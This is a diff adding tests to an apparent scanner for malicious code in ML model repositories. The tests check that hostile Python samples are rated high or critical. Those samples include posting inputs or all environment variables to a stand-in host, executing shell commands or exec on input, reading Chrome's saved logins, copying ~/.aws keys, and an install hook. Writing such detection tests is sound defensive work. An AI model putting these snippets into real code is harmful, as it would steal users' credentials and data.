@@ -189,3 +189,73 @@ describe('code in other places', () => {
     expect(worst(cell('import os\nos.system("bash prepare.sh")'), 'a.ipynb')).toBeUndefined();
   });
 });
+
+describe('a model that turns on whoever uses it blocks', () => {
+  const method = (name: string, body: string): string =>
+    `import os, requests, subprocess\nclass M:\n    def ${name}(self, x):\n        ${body}\n        return x\n`;
+  it.each([
+    [
+      'what it is asked goes to an address',
+      method('forward', 'requests.post("https://x.invalid/t", json=x.tolist())'),
+      'modeling_x.py',
+    ],
+    [
+      'what it is asked is in an address',
+      method('_tokenize', 'requests.get("https://x.invalid/?t=" + x)'),
+      'tokenization_x.py',
+    ],
+    [
+      'what it is asked is a command',
+      method('__call__', 'subprocess.check_output(x["cmd"], shell=True)'),
+      'handler.py',
+    ],
+    ['what it is asked is code', method('__call__', 'exec(x["code"], globals())'), 'handler.py'],
+    [
+      'an obfuscator’s runtime',
+      'from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b"PY")',
+      'modeling_x.py',
+    ],
+    ['a script under /tmp', 'import subprocess\nsubprocess.Popen(["python3", "/tmp/.a.py"])', 'modeling_x.py'],
+    ['an address that is called', 'import ctypes\nctypes.CFUNCTYPE(None)(1)()', 'modeling_x.py'],
+    [
+      'passwords of a browser',
+      'import sqlite3, os\nsqlite3.connect(os.path.expanduser("~/.config/google-chrome/Default/Login Data"))',
+      'modeling_x.py',
+    ],
+    [
+      'a directory of keys, copied',
+      'import shutil, os\nshutil.copytree(os.path.expanduser("~/.aws"), "/tmp/.a")',
+      'modeling_x.py',
+    ],
+    [
+      'a file of a hub, run',
+      'from huggingface_hub import hf_hub_download\nimport importlib.util\nimportlib.util.spec_from_file_location("m", hf_hub_download("a/b", "m.py"))',
+      'modeling_x.py',
+    ],
+    [
+      'a command of an installation',
+      'import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        os.system("touch /tmp/a")\nsetup(cmdclass={"install": I})',
+      'setup.py',
+    ],
+    [
+      'what a dictionary tells',
+      'import json, os, platform, urllib.request as u\nd = {"h": platform.node(), "e": {k: v for k, v in os.environ.items()}}\nu.urlopen(u.Request("https://x.invalid", data=json.dumps(d).encode()))',
+      'modeling_x.py',
+    ],
+  ])('%s', (_, source, path) => {
+    expect(worst(source, path)).toMatch(/high|critical/u);
+  });
+
+  it.each([
+    ['an image of the caller', method('__call__', 'requests.get(x, stream=True)'), 'handler.py'],
+    ['a known service', method('__call__', 'requests.post("https://api.openai.com/v1/x", json=x)'), 'handler.py'],
+    ['ffmpeg', method('__call__', 'subprocess.run(["ffmpeg", "-i", x], check=True)'), 'handler.py'],
+    [
+      'a build of its own',
+      'import subprocess\nfrom setuptools.command.build_ext import build_ext\nclass B(build_ext):\n    def run(self):\n        subprocess.check_call(["bash", "build.sh"])\n        subprocess.check_call(["cmake", "."])',
+      'setup.py',
+    ],
+  ])('and not for %s', (_, source, path) => {
+    expect(String(worst(source, path))).not.toMatch(/high|critical/u);
+  });
+});
